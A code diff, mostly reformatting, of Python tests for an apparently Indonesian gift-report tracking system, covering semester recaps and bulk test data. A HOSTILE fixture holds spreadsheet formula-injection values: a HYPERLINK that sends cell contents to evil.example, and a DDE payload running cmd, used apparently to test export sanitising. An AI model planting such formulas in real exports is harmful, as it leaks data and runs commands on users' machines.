@@ -24,7 +24,8 @@ from tests.kpk.helpers import Item, ReportSpec, ensure_unit, make_report
 
 HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1)")
 
-RELATED_PARTY = "Pihak terkait tugas (penyedia barang/jasa, penerima layanan, pihak yang diawasi/diperiksa)"  # the form's label, in Indonesian
+# The form's label, in Indonesian.
+RELATED_PARTY = "Pihak terkait tugas (penyedia barang/jasa, penerima layanan, pihak yang diawasi/diperiksa)"
 
 
 def test_semesters_are_january_to_june_and_july_to_december():
@@ -54,7 +55,8 @@ def test_recap_lists_each_object_of_the_semester_by_opd_with_forwarding_and_sk(u
         a = make_report(ReportSpec(unit_code="DPMPTSP", tanggal_lapor=date(2026, 6, 30)))
         make_report(ReportSpec(unit_code="DINKES", unit_name="Dinas Kesehatan", tanggal_lapor=date(2026, 1, 2),
                                tanggal_penerimaan=date(2025, 12, 29), status="penolakan_dicatat",
-                               jenis=JenisLaporan.PENOLAKAN, items=(Item(JenisObjek.VOUCHER, 500_000, "Voucher belanja"),)))
+                               jenis=JenisLaporan.PENOLAKAN,
+                               items=(Item(JenisObjek.VOUCHER, 500_000, "Voucher belanja"),)))
         make_report(ReportSpec(unit_code="DPMPTSP", tanggal_lapor=date(2026, 7, 1)))  # semester 2
         make_report(ReportSpec(unit_code="DPMPTSP", tanggal_lapor=date(2025, 12, 31),
                                tanggal_penerimaan=date(2025, 12, 30)))  # last year
@@ -64,16 +66,18 @@ def test_recap_lists_each_object_of_the_semester_by_opd_with_forwarding_and_sk(u
                                  KpkDecision.milik_negara)
         rows = list(recap_rows(db.session, Semester(2026, 1), viewer_id=upg.id))
     assert len(RECAP_HEADER) == len(rows[0]) == 18
+    dpmptsp = ("DPMPTSP", "Dinas Penanaman Modal dan PTSP")
+    receipt = "Laporan penerimaan (pemberian telah diterima)"
     assert rows == [
         ("DINKES", "Dinas Kesehatan", "GRT-2026-000002", "Laporan penolakan (pemberian ditolak)", date(2025, 12, 29),
          date(2026, 1, 2), "Terkait tugas pelayanan", RELATED_PARTY, 1, "Voucher", 500_000, "Disimpan pelapor",
          "Penolakan dicatat", None, None, None, None, None),
-        ("DPMPTSP", "Dinas Penanaman Modal dan PTSP", "GRT-2026-000001", "Laporan penerimaan (pemberian telah diterima)",
+        (*dpmptsp, "GRT-2026-000001", receipt,
          date(2026, 2, 20), date(2026, 6, 30), "Terkait tugas pelayanan",
          RELATED_PARTY, 1, "Uang atau setara uang", 1_500_000,
          "Disimpan pelapor", "Ditetapkan milik negara", "GOL-UPG/2026/00417", date(2026, 7, 2), "SK-88/2026",
          date(2026, 7, 30), "Milik negara"),
-        ("DPMPTSP", "Dinas Penanaman Modal dan PTSP", "GRT-2026-000001", "Laporan penerimaan (pemberian telah diterima)",
+        (*dpmptsp, "GRT-2026-000001", receipt,
          date(2026, 2, 20), date(2026, 6, 30), "Terkait tugas pelayanan",
          RELATED_PARTY, 2, "Barang", 2_750_000,
          "Disimpan pelapor", "Ditetapkan milik negara", "GOL-UPG/2026/00417", date(2026, 7, 2), "SK-88/2026",
@@ -86,7 +90,9 @@ def _hostile_report(app, frozen_clock) -> None:
     with app.test_request_context():
         upg = find_officer("upg")
         # OPD code and name as an admin might have typed them.
-        report_id = make_report(ReportSpec(unit_code=HOSTILE[1][:32], unit_name=HOSTILE[1], tanggal_lapor=date(2026, 3, 2)))
+        report_id = make_report(
+            ReportSpec(unit_code=HOSTILE[1][:32], unit_name=HOSTILE[1], tanggal_lapor=date(2026, 3, 2))
+        )
         services.record_forwarding(db.session.get(GratificationReport, report_id), upg, HOSTILE[2], date(2026, 3, 3))
         services.record_decision(db.session.get(GratificationReport, report_id), upg, HOSTILE[0], date(2026, 4, 1),
                                  KpkDecision.milik_penerima)
@@ -160,16 +166,17 @@ def _fill(first: int, last: int) -> None:
     for start in range(first, last + 1, 10_000):
         batch = range(start, min(start + 10_000 - 1, last) + 1)
         db.session.execute(insert(GratificationReport), [
-            dict(id=i, tracking_year=2026, tracking_seq=i, tracking_number=f"GRT-2026-{i:06d}", jenis_laporan="penerimaan",
-                 status="diterima_upg", status_changed_at=now, unit_id=unit.id, hubungan_pemberi="sesama_pegawai",
+            dict(id=i, tracking_year=2026, tracking_seq=i, tracking_number=f"GRT-2026-{i:06d}",
+                 jenis_laporan="penerimaan", status="diterima_upg", status_changed_at=now, unit_id=unit.id,
+                 hubungan_pemberi="sesama_pegawai",
                  jenis_peristiwa="ulang_tahun", tanggal_penerimaan=date(2026, 2, 27), tanggal_lapor=date(2026, 3, 2),
                  submitted_at=now, minta_kompensasi=False, has_email=False, language="id",
                  access_locator=f"L{i:09d}", access_verifier=b"v", access_salt=b"s", access_wrapped_dek=b"w", **blank)
             for i in batch
         ])
         db.session.execute(insert(GiftObject), [
-            dict(report_id=i, position=1, jenis_objek="barang", nilai_taksiran=250_000 + i, lokasi_objek="disimpan_pelapor",
-                 uraian=b"x")
+            dict(report_id=i, position=1, jenis_objek="barang", nilai_taksiran=250_000 + i,
+                 lokasi_objek="disimpan_pelapor", uraian=b"x")
             for i in batch
         ])
     db.session.commit()
